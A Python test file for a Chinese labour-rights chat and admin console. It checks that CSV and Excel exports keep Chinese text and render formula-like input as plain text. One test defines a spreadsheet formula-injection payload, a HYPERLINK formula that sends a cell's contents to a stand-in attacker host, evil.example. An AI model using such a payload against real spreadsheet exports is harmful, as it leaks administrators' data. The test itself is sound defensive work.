"""Exports as files a spreadsheet opens: Chinese intact, and nothing a worker typed runs as a formula."""

import csv
import io
from contextlib import closing

import httpx
import pytest
from openpyxl import load_workbook

from api.exports import csv_response, xlsx_response
from support.console import console_client, serve_site

HEADERS = ("编号", "金额")
ROWS = [("WQ2026-00001", 1200.5), ("WQ2026-00002", None)]


def test_csv_opens_in_excel_with_chinese() -> None:
    response = csv_response(HEADERS, ROWS, "工单.csv")
    assert response.body.startswith("\ufeff".encode())
    assert "filename*=UTF-8''%E5%B7%A5%E5%8D%95.csv" in response.headers["content-disposition"]
    rows = list(csv.reader(io.StringIO(response.body.decode("utf-8-sig"))))
    assert rows == [["编号", "金额"], ["WQ2026-00001", "1200.5"], ["WQ2026-00002", ""]]


def test_xlsx_round_trips() -> None:
    response = xlsx_response(HEADERS, ROWS, "工单.xlsx", sheet="工单")
    sheet = load_workbook(io.BytesIO(response.body)).active
    assert sheet.title == "工单"
    assert [[cell.value for cell in row] for row in sheet.iter_rows()] == [
        ["编号", "金额"], ["WQ2026-00001", 1200.5], ["WQ2026-00002", None]
    ]


def test_text_that_looks_like_a_formula_stays_text() -> None:
    rows = [("=1+2", "+86", "-3", "@SUM(A1)", "\t=1", "\r=1", "中文-1", -3, "\x01控制")]
    text = csv_response(HEADERS, rows, "x.csv").body.decode("utf-8-sig")
    [written] = list(csv.reader(io.StringIO(text)))[1:]
    assert written == ["'=1+2", "'+86", "'-3", "'@SUM(A1)", "'\t=1", "'\r=1", "中文-1", "-3", "\x01控制"]
    sheet = load_workbook(io.BytesIO(xlsx_response(HEADERS, rows, "x.xlsx").body)).active
    cells = list(sheet.iter_rows(min_row=2))[0]
    assert [c.value for c in cells] == ["=1+2", "+86", "-3", "@SUM(A1)", "\t=1", "\r=1", "中文-1", -3, "控制"]
    assert [c.data_type for c in cells] == ["s"] * 7 + ["n", "s"]
    assert [c.quotePrefix for c in cells] == [True] * 6 + [False] * 3


# An employer as an attacker would type it in chat, to run in the admin's spreadsheet.
EVIL = '=HYPERLINK("http://evil.example/?"&A2,"点击查看详情")'


@pytest.fixture(scope="module")
def served(fixture_kb, tmp_path_factory):
    with serve_site(fixture_kb, tmp_path_factory, "exports") as site:
        yield site.url


def chat(client: httpx.Client, *texts: str) -> str:
    said = ""
    for text in texts:
        response = client.post("/api/chat", json={"text": text})
        assert response.status_code == 200, response.text
        said = "\n".join(reply["text"] for reply in response.json()["replies"])
    return said


def test_an_employer_typed_as_a_formula_reaches_the_exports_as_text(served: str) -> None:
    with httpx.Client(base_url=served, timeout=15) as worker:
        worker.get("/chat")
        filed = chat(worker, "维权求助", "欠薪", EVIL, "今年三月起公司没发工资，一共欠了两个月", "2万", "跳过", "13812345678",
                     "工作日晚上", "东疆", "同意", "确认提交")
        assert "你的案件编号是 WQ" in filed
        applied = chat(worker, "入会", "在单位上班", "王小明", "13912345678", EVIL, "同意", "确认提交")
        assert "审核后会把会员服务卡号发给你" in applied
    with closing(console_client(served, "boss")) as admin:
        for path, column in (("/console/dashboard/cases.%s", "用人单位"), ("/console/members/export.%s", "单位")):
            sheet = load_workbook(io.BytesIO(admin.get(path % "xlsx").content)).active
            header = [cell.value for cell in sheet[1]]
            [cell] = [row[header.index(column)] for row in sheet.iter_rows(min_row=2)]
            assert (cell.value, cell.data_type, cell.quotePrefix) == (EVIL, "s", True), path
            table = list(csv.reader(io.StringIO(admin.get(path % "csv").content.decode("utf-8-sig"))))
            assert [row[table[0].index(column)] for row in table[1:]] == ["'" + EVIL], path
